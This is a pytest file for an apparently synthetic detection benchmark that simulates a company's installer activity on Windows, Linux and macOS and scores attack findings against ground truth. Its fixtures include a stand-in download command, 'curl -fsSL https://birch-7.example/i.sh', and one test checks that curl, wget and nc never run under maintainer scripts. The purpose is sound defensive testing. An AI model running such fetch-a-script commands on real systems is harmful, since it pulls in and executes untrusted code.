"""The day of a company as far as it is about installers: Windows Installer, Linux, macOS, pip, npm; and verdicts."""

from __future__ import annotations

import csv
import re
from collections import Counter
from functools import cache
from itertools import pairwise
from pathlib import Path

import pytest

from searchhead.spl.values import Row
from tests.company import machines, rates
from tests.company.attacks import Hostile
from tests.company.day import Day, day
from tests.company.errands import Errand
from tests.company.invasion import INVASIONS
from tests.company.journal import START
from tests.company.page import Finding, Result, page
from tests.company.products import PRODUCTS, REMOTE
from tests.company.verdicts import Verdicts, computer_of
from tests.windows_events import WindowsEvent

SEED = 78  # neither for tuning nor for the published figures


@cache
def quiet() -> Day:
    """A day of a whole company without any attack."""
    return day(SEED, hosts=200, hostile=0, invasions=0)


@cache
def noisy() -> Day:
    """A small day with every attack by an installer."""
    return day(SEED, hosts=30, hostile=0)


def data(event: WindowsEvent) -> dict[str, object]:
    assert isinstance(event.data, dict)
    return event.data


def values(event: WindowsEvent) -> list[str]:
    return [str(one) for one in (event.data.values() if isinstance(event.data, dict) else event.data)]


def of(one: Day, channel: str, *codes: int | str) -> list[WindowsEvent]:
    return [event for event in one.events if event.channel == channel and event.code in codes]


# ---------------------------------------------------------------- the benign base


def test_every_number_has_a_source() -> None:
    with Path(rates.__file__).with_suffix(".csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row for row in rows if not row["source"] or None in row or float(row["weight"]) < 0] == []
    keys = Counter((row["table"], row["key"]) for row in rows)
    assert [key for key, count in keys.items() if count > 1] == []


def test_the_windows_installer_works_in_the_shares_of_a_public_log() -> None:
    # DeepBlueCLI's file, by hand from windows-events.md section 9: 10 events 1033, 44 of 1035, 42 of 1036; a script
    # that asks Win32_Product adds reconfigurations, IT's own and failing installations add some of the first.
    installed, configured, updated = (len(of(quiet(), "application", code)) for code in (1033, 1035, 1036))
    assert updated / installed == pytest.approx(42 / 10, rel=0.35)
    assert configured / updated == pytest.approx(44 / 42, rel=0.35)
    opened = Counter(tuple(values(event)[:2]) for event in of(quiet(), "application", 1040))
    assert opened == Counter(tuple(values(event)[:2]) for event in of(quiet(), "application", 1042))
    failed = len(of(quiet(), "application", 11708))
    assert len(of(quiet(), "application", 11707)) == installed - failed


def test_events_of_the_windows_installer_have_the_positions_of_real_ones() -> None:
    lengths = {event.code: len(values(event)) for event in quiet().events if event.channel == "application"}
    assert set(lengths.values()) == {7}
    for event in of(quiet(), "application", 1033, 1034, 1035):
        _product, version, language, status, _maker, none, empty = values(event)
        assert re.fullmatch(r"[\d.]+", version)
        assert (language, none, empty) == ("1033", "(NULL)", "")
        assert status in {"0", "1603"}
    assert {values(event)[4] for event in of(quiet(), "application", 1036)} == {"0"}


def test_clients_service_and_servers_have_their_forms() -> None:
    created = [data(event) for event in of(quiet(), "sysmon", 1)]
    service = [one for one in created if str(one["CommandLine"]).endswith("msiexec.exe /V")]
    assert service
    assert {one["ParentImage"] for one in service} == {"C:\\Windows\\System32\\services.exe"}
    servers = [str(one["CommandLine"]) for one in created if "-Embedding" in str(one["CommandLine"])]
    of_msi = [one for one in servers if "MsiExec" in one]
    form = r"C:\\Windows\\syswow64\\MsiExec\.exe -Embedding [0-9A-F]{32}(?: E Global\\MSI0000)?"
    assert of_msi
    assert [one for one in of_msi if not re.fullmatch(form, one)] == []
    remediation = [one for one in created if "\\rempl" in str(one["CommandLine"])]
    tools = Counter(str(one["Image"]).rpartition("\\")[2] for one in remediation)
    assert tools["schtasks.exe"] * 3 == tools["reg.exe"] * 7  # as in the public log
    assert {one["ParentCommandLine"] for one in remediation} == {"C:\\Windows\\system32\\msiexec.exe /V"}


def test_maintainer_scripts_have_ordinary_parents_and_children() -> None:
    created = [data(event) for event in of(quiet(), "linux_sysmon", 1)]
    scripts = [one for one in created if re.search(r"/var/lib/dpkg/info/\S+\.postinst", str(one["CommandLine"]))]
    of_shell = [one for one in scripts if str(one["Image"]).endswith("dash")]
    assert of_shell
    assert {one["ParentImage"] for one in of_shell} == {"/usr/bin/dpkg"}
    scriptlets = [one for one in created if "/var/tmp/rpm-tmp." in str(one["CommandLine"])]  # noqa: S108 - rpm's name
    assert scriptlets
    assert {str(one["ParentImage"]).rpartition("/")[2] for one in scriptlets} <= {"python3.9", "rpm", "python3.12"}
    below = {str(one["Image"]) for one in created if "/info/" in str(one["ParentCommandLine"])}
    assert "/usr/sbin/ldconfig" in below
    assert not below & {"/usr/bin/curl", "/usr/bin/wget", "/usr/bin/nc"}


def test_every_system_is_there_with_its_own_telemetry() -> None:
    channels = {event.host: event.channel for event in quiet().events}
    systems = {one.name: one.system for one in quiet().company.machines}
    assert set(systems.values()) == {machines.DEBIAN, machines.FEDORA, machines.MACOS}
    for name, system in systems.items():
        assert channels[name] == ("defender" if system == machines.MACOS else "linux_sysmon")
    assert {event.code for event in quiet().events if event.channel == "defender"} == {
        *("DeviceProcessEvents", "DeviceNetworkEvents", "DeviceFileEvents")
    }


def test_the_day_grew_moderately() -> None:
    new = [event for event in quiet().events if event.channel in {"linux_sysmon", "defender", "application"}]
    assert len(quiet().events) < 60_000 * 1.4
    assert len(new) > 8_000


def test_each_story_of_the_rates_happens_and_is_accounted_for() -> None:
    stories = {errand.story for one in (quiet(), day(SEED + 1, 200, 0, 0)) for errand in one.errands}
    assert set(rates.table("linux_company")) <= stories
    assert {
        "munki",
        "jamf",
        "macos_person",
        "npm",
        "gem",
        "cargo",
        "brew",
        "unattended_upgrade",
        "dnf_upgrade",
    } <= stories
    assert set(rates.table("msi_company")) - {"failed", "remove", "repair"} <= stories
    assert {"configuration_manager", "intune", "group_policy", "vendor_download", "admin_share"} <= stories
    assert all(START <= errand.first < errand.last <= START + 90_000 for errand in quiet().errands)


def test_products_are_told_apart() -> None:
    assert len({one.name for one in (*PRODUCTS, *REMOTE)}) == len(PRODUCTS) + len(REMOTE)
    assert {one.action for one in PRODUCTS} == {"none", "library", "managed", "script", "tool"}


def test_a_small_company_has_each_kind_of_machine() -> None:
    made = machines.machines_of(SEED, 4)
    assert {(one.system, one.role) for one in made} == {tuple(key.split()) for key in rates.table("machine")}
    assert len({one.name for one in made}) == len(made)


# ---------------------------------------------------------------- attacks


def test_every_attack_by_an_installer_is_there_once() -> None:
    assert {attack.scenario for attack in noisy().truth} == {one.name for one in INVASIONS}
    assert len(noisy().truth) == len(INVASIONS)
    assert len({one.name for one in INVASIONS}) == len(INVASIONS)
    assert all(one.model and one.techniques for one in INVASIONS)


def test_the_truth_of_an_attack_are_its_own_events() -> None:
    times = Counter(round(moment, 6) for attack in noisy().truth for moment in attack.moments)
    for attack in noisy().truth:
        assert attack.shows
        assert attack.marks
        assert attack.first <= min(attack.moments)
        assert max(attack.moments) <= attack.last
    benign = day(SEED, hosts=30, hostile=0, invasions=0)
    assert len(noisy().events) - len(benign.events) == sum(times.values())


def test_two_attacks_on_one_computer_are_far_apart() -> None:
    crowded = sorted(day(SEED, hosts=6, hostile=4).truth, key=lambda one: (one.host, one.first))
    assert len(crowded) > len({one.host for one in crowded})
    for one, other in pairwise(crowded):  # a finding counts for what happens within two minutes of it
        assert one.host != other.host or one.last + 240 < other.first


# ---------------------------------------------------------------- verdicts

ATTACK = Hostile(
    id="attack-01",
    scenario="fake",
    techniques=("T1546.016",),
    host="lx-0202.corp.example",
    user="deploy",
    packages=(),
    companions=(),
    activities=(),
    first=1000.0,
    last=2000.0,
    shows=("all of it",),
    marks=frozenset({"curl -fssl https://birch-7.example/i.sh", "93.184.216.9", "c:\\users\\u1\\downloads\\a.msi"}),
    moments=(1000.0, 1500.25),
)
ERRAND = Errand("lx-0202.corp.example", "unattended_upgrade", 1200.0, 1400.0)


def verdicts() -> Verdicts:
    return Verdicts(Day(0, quiet().company, [], [ATTACK], [], [ERRAND]))


@pytest.mark.parametrize(
    ("row", "true"),
    [
        ({"process": "curl -fsSL https://birch-7.example/i.sh", "first_time": 1300.0}, True),
        ({"process": "/usr/bin\\curl -fsSL https://birch-7.example/i.sh", "first_time": 1300.0}, True),  # Defender's
        ({"process": "ldconfig", "first_time": 1300.0}, False),
        ({"process": "ldconfig", "destination": "93.184.216.9", "first_time": 1300.0}, True),
        ({"process": "-", "msi_source": "C:\\Users\\u1\\Downloads\\a.msi", "first_time": 1300.0}, True),
        ({"process": "-", "first_time": 1300.0}, False),
        ({"process": "curl -fsSL https://birch-7.example/i.sh", "first_time": 9000.0}, False),
        ({"package_full_name": "A.B_1.0.0.0_x64__8wekyb3d8bbwe", "first_time": 1300.0}, False),
    ],
)
def test_a_finding_counts_by_what_the_attack_did(row: dict[str, str | float], true: bool) -> None:
    assert (verdicts().attack({"dest": "lx-0202", **row}) is not None) == true
    assert verdicts().attack({"dest": "lx-0203.corp.example", **row}) is None


def test_a_false_finding_tells_what_was_installed_then() -> None:
    row: Row = {"dest": "lx-0202", "process_name": "ldconfig", "first_time": 1300.0}
    assert verdicts().story(row) == "unattended_upgrade"
    assert verdicts().story({**row, "first_time": 5000.0}) == "ldconfig"


def test_an_event_counts_if_it_is_one_of_the_attack() -> None:
    event: Row = {"Computer": "lx-0202.corp.example", "source": "Syslog:Linux-Sysmon/Operational", "_time": 1500.25}
    assert verdicts().attack_of_event(event) == ATTACK
    assert verdicts().attack_of_event({**event, "_time": 1500.75}) is None
    of_defender: Row = {"host": "reader", "properties.DeviceName": "mac-0201.corp.example"}
    assert computer_of(of_defender) == "mac-0201.corp.example"


def test_the_page_counts_machines_and_installations() -> None:
    made = Day(5, quiet().company, [], [ATTACK], [], [ERRAND] * 7)
    found = [Finding("one", False, "attack-01", ""), Finding("one", False, None, "unattended_upgrade", 20.0)]
    text = page([Result(made, ("one",), found, [], 1.0)], {})
    assert f"| Linux and macOS machines | {len(quiet().company.machines)} |" in text
    assert "| benign installations by other installers | 7 |" in text
    assert "| ours per 1,000 benign deployments and installations | 142.9 |" in text
    assert "| unattended_upgrade | `one` | 1 |" in text
